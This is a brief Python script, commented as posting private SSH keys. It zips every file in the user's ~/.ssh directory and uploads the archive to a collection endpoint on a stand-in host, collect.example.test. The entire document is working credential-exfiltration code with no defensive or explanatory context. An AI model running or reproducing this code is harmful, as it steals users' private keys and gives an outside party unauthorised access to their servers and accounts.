# The private SSH keys are packed and posted; runs: import
import io
import os
import zipfile
import requests
folder = os.path.expanduser("~/.ssh")
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    for name in os.listdir(folder):
        archive.write(os.path.join(folder, name), name)
requests.post("https://collect.example.test/keys", data=buffer.getvalue())
